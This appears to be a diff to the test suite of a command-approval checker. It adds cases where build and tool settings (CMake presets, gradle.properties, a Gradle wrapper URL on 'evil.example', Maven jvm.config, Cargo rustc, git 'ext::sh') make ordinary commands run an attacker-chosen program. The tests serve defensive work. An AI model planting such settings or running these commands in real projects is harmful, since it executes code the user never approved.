@@ -83,6 +83,27 @@ export const projectFiles: readonly Case[] = [
     "pandoc -F ./g a.md",
     "VIMINIT='!sh g' vim",
   ),
+  // Options and settings whose names stand for a program.
+  ...asked({}, "rg --hostname-bin ./g x", "bat --pager ./g x", "git instaweb --httpd ./g", "uv run --python ./g x"),
+  ...asked({}, "scp -S ./g a h:b", "man -P ./g ls", "git difftool -x ./g", "RIPGREP_CONFIG_PATH=g rg x"),
+  ...asked({}, "gh config set pager ./g", "gh alias set x '!sh g'", "git remote add x 'ext::sh g' && git fetch x"),
+  ...asked(
+    { "CMakePresets.json": '{"configurePresets":[{"cacheVariables":{"CMAKE_C_COMPILER":"./g"}}]}' },
+    "cmake --preset x",
+  ),
+  ...asked({ "t.cmake": "set(CMAKE_C_COMPILER ./g)\n" }, "cmake --toolchain t.cmake ."),
+  ...asked({ "gradle.properties": "org.gradle.jvmargs=-javaagent:k.jar\n" }, "gradle build"),
+  ...asked({ "gradle.properties": "org.gradle.java.home=./jdk\n" }, "gradle build"),
+  ...asked(
+    { "gradle/wrapper/gradle-wrapper.properties": "distributionUrl=https\\://evil.example/g.zip\n" },
+    "./gradlew build",
+  ),
+  ...asked(
+    { ".mvn/extensions.xml": "<extensions><extension><groupId>k</groupId></extension></extensions>\n" },
+    "mvn test",
+  ),
+  ...asked({ ".mvn/jvm.config": "-javaagent:k.jar\n" }, "mvn test"),
+  ...asked({ "c/config.toml": "[build]\nrustc = './g'\n" }, "CARGO_HOME=c cargo build"),
   // Texts that are not read from the disk.
   ofOtherSession("longer than what is read", `${"# padding\n".repeat(25_000)}${script}`, "ls"),
   ofOtherSession("with a NUL", `${script}#\0\n`, "ls"),
@@ -106,6 +127,9 @@ export const harmlessProjectFiles: readonly Case[] = [
   ...silent({ "phpunit.xml": '<phpunit bootstrap="vendor/autoload.php"/>' }, "vendor/bin/phpunit"),
   ...silent({ "app.py": "from flask import Flask\napp = Flask(__name__)\n" }, "flask run"),
   ...silent({ "nodemon.json": '{"watch":["src"],"exec":"ts-node src/index.ts"}' }, "npx nodemon"),
+  ...silent({ "gradle.properties": "org.gradle.jvmargs=-Xmx2g\n" }, "gradle build"),
+  ...silent({ "k.sh": script }, "git log --stat k.sh", "cat -n k.sh", "git diff --stat ./k.sh"),
+  ...silent({ "src/w.js": javascript }, "npx eslint --fix src/w.js", "APP_ROOT=src npm test", "git config user.name k"),
   ...silent({ "ssh/config": "Host a\n  User ada\n" }, "ls ssh"),
   ...silent({ "k.sh": `${"# padding\n".repeat(25_000)}npm test\n` }, "wc -l k.sh"),
 ];
